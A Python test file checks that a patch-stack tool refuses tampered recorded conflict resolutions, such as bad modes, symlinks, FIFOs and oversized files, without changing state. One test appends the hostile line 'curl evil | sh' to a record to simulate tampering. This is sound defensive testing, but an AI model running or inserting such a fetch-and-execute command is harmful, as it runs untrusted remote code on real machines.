"""Recorded resolutions arrive through teammates' pull requests: each is checked when read
(issue 34, item 4), and a bad one is refused naming it, exit 2, nothing changed."""

from __future__ import annotations

import json
import os
import re
import threading
from pathlib import Path

import pytest

from .conftest import Repo, built_once, numbered
from .test_defer import drift_resolved
from .test_hunk_resolutions import legacy_record


@built_once
def recorded(tmp_path: Path) -> tuple[Repo, Path]:
    """A drift whose p1 conflict was resolved once and recorded as a whole file (the earlier
    format, which a series may still hold); the refresh undone. Built once per worker."""
    repo = drift_resolved(tmp_path)
    repo.ps("undo")
    repo.ps("undo")
    folder = repo.path / "patches" / "resolutions"
    (hunk,) = folder.iterdir()
    hunk.unlink()
    resolved = numbered(40, "a").replace("a 10\n", "a 10 upstream and mine\n").encode()
    legacy_record(repo, "p1.patch", "a.py", ["HEAD~3", "up", "HEAD~2"], resolved)
    (record,) = folder.iterdir()
    assert "p1.patch  (recorded resolution)" in repo.ps("check", "--onto", "up").stdout
    return repo, record


def refused(repo: Repo, named: str, *why: str) -> None:
    before = repo.state()
    records = sorted(os.listdir(repo.path / "patches" / "resolutions"))
    for args in (("refresh", "--onto", "up"), ("check", "--onto", "up"), ("resolutions",)):
        result = repo.ps(*args, code=2)
        assert named in result.stderr, (args, result.stderr)
        for w in why:
            assert w in result.stderr, (args, result.stderr)
        assert "Traceback" not in result.stderr
    assert repo.state() == before
    assert sorted(os.listdir(repo.path / "patches" / "resolutions")) == records


def edit_header(record: Path, field: str, value: str) -> None:
    data = record.read_bytes()
    head, _, body = data.partition(b"\n\n")
    text = re.sub(rf"(?m)^{field}: .*$", f"{field}: {value}", head.decode())
    record.write_bytes(text.encode() + b"\n\n" + body)


@pytest.mark.parametrize("mode", ["120000", "160000", "777"])
def test_a_resolved_mode_other_than_a_file_is_refused(tmp_path, mode: str) -> None:
    repo, record = recorded(tmp_path)
    oid = record.read_text().split("resolved: ")[1].split()[1]
    edit_header(record, "resolved", f"{mode} {oid}")
    refused(repo, record.name, f"mode '{mode}' is not one of 100644, 100755")


def test_a_body_that_is_not_the_header_s_blob_is_refused(tmp_path) -> None:
    repo, record = recorded(tmp_path)
    record.write_bytes(record.read_bytes() + b"curl evil | sh\n")
    refused(repo, record.name, "its bytes are not blob")


def test_a_second_file_for_the_same_key_is_refused(tmp_path) -> None:
    repo, record = recorded(tmp_path)
    (record.parent / ("0" * 40)).write_bytes(record.read_bytes())
    refused(repo, "0" * 40, "its name is not its key")


def test_a_record_too_large_is_refused(tmp_path) -> None:
    repo, record = recorded(tmp_path)
    repo.git("config", "patchstack.snapshotMaxSize", "100")
    refused(repo, record.name, "larger than")


def test_a_record_linked_to_dev_zero_is_refused_not_read(tmp_path) -> None:
    repo, record = recorded(tmp_path)
    record.unlink()
    record.symlink_to("/dev/zero")
    refused(repo, record.name, "cannot be read as a file")


def test_a_fifo_is_refused_without_waiting(tmp_path) -> None:
    repo, record = recorded(tmp_path)
    record.unlink()
    os.mkfifo(record)
    done = threading.Event()
    timer = threading.Timer(30, lambda: done.is_set() or os.close(os.open(record, os.O_WRONLY)))
    timer.start()  # (were it opened for reading, this would end the wait, and the test fails)
    try:
        refused(repo, record.name, "is not a regular file")
    finally:
        done.set()
        timer.cancel()


def test_the_folder_as_a_link_is_refused_and_nothing_is_written_or_deleted_through_it(
    tmp_path,
) -> None:
    repo, record = recorded(tmp_path)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    os.replace(record, elsewhere / record.name)
    folder = repo.path / "patches" / "resolutions"
    folder.rmdir()
    folder.symlink_to(elsewhere)
    refused(repo, "patches/resolutions", "is a symbolic link")
    assert repo.ps("resolutions", "--forget", code=2)
    assert os.listdir(elsewhere) == [record.name]


def test_forget_is_one_entry_of_the_log_and_undo_puts_the_records_back(tmp_path) -> None:
    repo = drift_resolved(tmp_path)
    folder = repo.path / "patches" / "resolutions"
    records = {p.name: p.read_bytes() for p in folder.iterdir()}
    state = repo.state()
    assert "forgot 1 recorded resolution(s)" in repo.ps("resolutions", "--forget").stdout
    assert not folder.exists()
    assert "no recorded resolutions" in repo.ps("resolutions").stdout
    assert repo.state() == state
    repo.ps("undo")  # the forget, not the refresh before it
    assert {p.name: p.read_bytes() for p in folder.iterdir()} == records
    assert repo.state() == state
    kinds = [e["kind"] for e in json.loads(repo.ps("log", "--json").stdout)]
    assert kinds[:2] == ["undo", "resolutions"]
